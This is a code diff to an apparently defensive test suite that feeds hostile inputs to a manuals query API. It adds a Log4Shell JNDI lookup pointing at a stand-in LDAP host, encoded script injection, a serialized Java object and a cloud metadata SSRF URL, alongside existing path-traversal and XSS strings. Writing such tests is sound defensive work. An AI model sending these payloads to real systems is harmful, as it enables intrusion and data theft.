@@ -72,6 +72,10 @@ function corpus(): Attack[] {
     'manual PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+', 'help \\u003cscript\\u003ealert(1)\\u003c/script\\u003e', 'show %2e%2e%2f%2e%2e%2fetc%2fpasswd',
     'reset\u0000the router', 'what is \u202eevil', 'A'.repeat(20_001),
   ];
+  // The page image's highlight (a quoted passage) is judged like a question.
+  for (const h of ['${jndi:ldap://x.example/a}', '%3Cscript%3Ealert(1)%3C%2Fscript%3E', 'rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ==', 'http://169.254.169.254/latest/']) {
+    out.push({ family: 'question', where: 'highlight', send: (t, token) => t.request(`/api/manuals/00000000-0000-0000-0000-000000000000/pages/1.png?highlight=${encodeURIComponent(h)}`, { token }) });
+  }
   for (const q of questionAttacks) {
     out.push({ family: 'question', where: 'question', send: (t, token) => t.request('/api/query', { token, json: { question: q } }) });
     out.push({ family: 'question', where: 'transcribe_question', send: (t, token) => t.request('/api/transcribe', { token, json: { question: q } }) });
